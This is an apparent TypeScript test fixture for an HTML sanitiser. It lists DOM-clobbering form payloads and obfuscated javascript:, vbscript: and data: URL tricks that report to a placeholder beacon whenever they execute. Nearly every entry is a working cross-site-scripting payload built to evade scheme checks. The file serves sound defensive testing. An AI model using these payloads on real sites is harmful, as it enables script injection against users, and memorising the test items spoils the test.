/**
 * Issue 17, what an outside attack found, written as payloads for the same harness as the first 133
 * (payloads.ts: `{B}` the beacon, `{ID}` the payload's id): forms whose controls shadow DOM properties, and URL
 * tricks aimed at the scheme check. Each carries something that runs or loads if a layer lets it through.
 */
import type { Payload } from './payloads';

const RUN = "new Image().src='{B}/run/{ID}'";
// What the attack saw pass the first layer behind a clobbering form.
const BEHIND = `<img src="x:" onerror="${RUN}"><details open ontoggle="${RUN}"><summary onclick="${RUN}">more</summary>` +
  `detail text</details><svg onload="${RUN}"></svg><a href="https://news.example/x" ping="{B}/load/{ID}">ping</a>`;

/** DOM properties and methods a walker or sanitiser reads; a control named after one shadows it on its form. */
export const CLOBBER_NAMES = [
  'nextSibling', 'nodeType', 'remove', 'localName', 'attributes', 'childNodes', 'parentNode', 'nodeName',
  'firstChild', 'getAttribute', 'removeAttribute', 'removeChild', 'insertBefore', 'namespaceURI', 'tagName',
  'firstElementChild', 'nextElementSibling', 'parentElement', 'children', 'hasChildNodes', 'setAttribute',
  'getAttributeNames', 'querySelectorAll', 'ownerDocument', 'textContent', 'lastChild', 'cloneNode',
];

const clobber: [string, string][] = [
  // One property each, the payload inside the form and right after it (a shadowed nextSibling skips what follows).
  ...CLOBBER_NAMES.map((name): [string, string] => [
    `form-${name}`,
    `<form><input name="${name}">${BEHIND}<p>Form text about ${name}.</p></form>${BEHIND}`,
  ]),
  ['form-many', `<form><input name="nextSibling"><input name="nodeType"><input name="remove"><input name="localName">` +
    `<input name="attributes"><input name="childNodes"><input name="parentNode">${BEHIND}</form>${BEHIND}`],
  ['form-by-id', `<form><input id="nextSibling"><img id="attributes" src="x:" onerror="${RUN}">${BEHIND}</form>${BEHIND}`],
  ['form-radio-list', `<form><input name="attributes"><input name="attributes">${BEHIND}</form>${BEHIND}`],
  ['form-owner-outside', `<form id="f17"></form><input form="f17" name="nextSibling">${BEHIND}`],
  ['form-nested-markup', `<div><section><form><input name="parentNode"><input name="firstChild"><div><p>in</p>` +
    `${BEHIND}</div></form>${BEHIND}</section></div>`],
  ['form-object-name', `<form><object name="localName"></object><button name="nodeName">b</button>${BEHIND}</form>${BEHIND}`],
  // Named elements that shadow the document's own properties in a browser.
  ['document-names', `<img name="cloneNode" src="x:" onerror="${RUN}"><img name="querySelectorAll"><form name="body">` +
    `</form><embed name="documentElement"><img name="getElementsByTagName"><img name="createElement">${BEHIND}`],
];

const urls: [string, string][] = [
  ['a-href-colon-entity', `<a href="javascript&colon;${RUN}">colon</a>`],
  ['a-href-tab-entity', `<a href="java&Tab;script:${RUN}">tab</a>`],
  ['a-href-newline-entity', `<a href="java&NewLine;script:${RUN}">newline</a>`],
  ['a-href-c0', `<a href="\u0001\u0010javascript:${RUN}">c0</a>`],
  ['a-href-hex-no-semicolon', `<a href="&#x6A&#x61&#x76&#x61script:${RUN}">hex</a>`],
  ['a-href-double-encoded', `<a href="&amp;#106;avascript:${RUN}">double</a>`],
  ['a-href-vbscript-upper', `<a href="VBScript:msgbox(1)">vb</a>`],
  ['a-href-data-upper', `<a href="DATA:text/html,<script>${RUN}</script>">data</a>`],
  ['img-src-vbscript', `<img src="vbscript:msgbox(1)" alt="vb">`],
  ['img-src-data-svg', `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`],
  ['img-src-mailto', `<img src="mailto:x@example.org" alt="m">`],
  ['img-src-protocol-relative', `<img src="//127.0.0.1:1/load/{ID}" alt="pr">`],
  ['blockquote-cite-js', `<blockquote cite="javascript:${RUN}">A quote.</blockquote>`],
  ['q-cite-js', `<q cite="java&#x09;script:${RUN}">quoted</q>`],
  ['del-cite-js', `<del cite="javascript:${RUN}">old</del><ins cite="data:text/html,x">new</ins>`],
  ['source-srcset-js', `<picture><source srcset="javascript:${RUN}"><img alt=""></picture>`],
  ['img-srcset-mixed', `<img src="https://news.example/a.jpg" srcset="https://news.example/a.jpg 1x, javascript:${RUN} 2x">`],
  ['img-srcset-data', `<img srcset="data:image/svg+xml,<svg onload='${RUN}'/> 1x">`],
  ['a-ping-https', `<a href="https://news.example/y" ping="{B}/load/{ID}">ping</a>`],
  ['td-background', `<table><tr><td background="{B}/load/{ID}">cell</td></tr></table>`],
  ['img-longdesc-lowsrc', `<img src="https://news.example/b.jpg" longdesc="javascript:${RUN}" lowsrc="{B}/load/{ID}">`],
  ['a-xlink-href', `<a xlink:href="javascript:${RUN}" href="https://news.example/z">xlink</a>`],
  ['input-formaction', `<input type="submit" formaction="javascript:${RUN}">`],
  ['video-poster-beacon', `<video poster="{B}/load/{ID}"></video>`],
  ['body-background', `<body background="{B}/load/{ID}">`],
];

function family(name: Payload['family'], rows: [string, string][]): Payload[] {
  return rows.map(([id, html]) => ({ id: `${name}-${id}`, family: name, html }));
}

export const attackPayloads: Payload[] = [...family('clobber', clobber), ...family('url', urls)];
